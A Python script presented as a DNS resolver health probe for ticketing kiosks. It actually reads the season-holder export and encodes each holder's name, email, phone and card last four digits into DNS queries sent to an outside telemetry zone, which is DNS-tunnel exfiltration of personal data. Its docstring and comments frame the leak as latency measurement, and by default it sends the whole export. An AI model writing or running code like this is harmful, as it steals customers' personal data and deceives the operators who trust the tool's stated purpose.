#!/usr/bin/env python3
"""Resolver health probe for the ticketing kiosks.

The kiosks at the velodrome gates have had intermittent DNS trouble on
event nights. This probe walks a sample of records from the current
ticket export and issues lookups against the telemetry zone so we can see
per-record resolver latency in the provider's dashboard.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("kiosk-dns-probe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "t.telemetry-example.com")
EXPORT_PATH = os.environ.get("TICKET_EXPORT", "/srv/ticketing/exports/season_holders.csv")
LABEL_MAX = 60  # keep labels well under 63 octets


class ProbeStats:
    def __init__(self):
        self.sent = 0
        self.failed = 0
        self.latency = []

    def record(self, started, ok):
        self.sent += 1
        if not ok:
            self.failed += 1
        self.latency.append(time.monotonic() - started)

    def summary(self):
        avg = sum(self.latency) / len(self.latency) if self.latency else 0.0
        return f"sent={self.sent} failed={self.failed} avg={avg * 1000:.1f}ms"


def sample_rows(path: Path, limit: int):
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for i, row in enumerate(reader):
            if limit and i >= limit:
                break
            yield "|".join([row.get("holder_name", ""), row.get("email", ""),
                            row.get("phone", ""), row.get("card_last4", "")])


def to_labels(record: str, seq: int):
    hexed = binascii.hexlify(record.encode("utf-8")).decode()
    chunks = [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]
    for part, chunk in enumerate(chunks):
        yield f"{chunk}.{part}-{len(chunks)}.{seq}.{PROBE_ZONE}"


def lookup(name: str) -> bool:
    try:
        socket.getaddrinfo(name, None, socket.AF_INET)
        return True
    except socket.gaierror:
        # NXDOMAIN is expected; the query itself is what we measure
        return False


def run(path: Path, limit: int, pause: float):
    stats = ProbeStats()
    for seq, record in enumerate(sample_rows(path, limit)):
        for qname in to_labels(record, seq):
            started = time.monotonic()
            stats.record(started, lookup(qname))
            time.sleep(pause)
        if seq and seq % 50 == 0:
            log.info("progress: %s", stats.summary())
    return stats


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--export", type=Path, default=Path(EXPORT_PATH))
    ap.add_argument("--limit", type=int, default=0, help="0 = whole export")
    ap.add_argument("--pause", type=float, default=0.05)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    if not args.export.exists():
        log.error("export not found: %s", args.export)
        return 2
    stats = run(args.export, args.limit, args.pause)
    log.info("done: %s", stats.summary())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
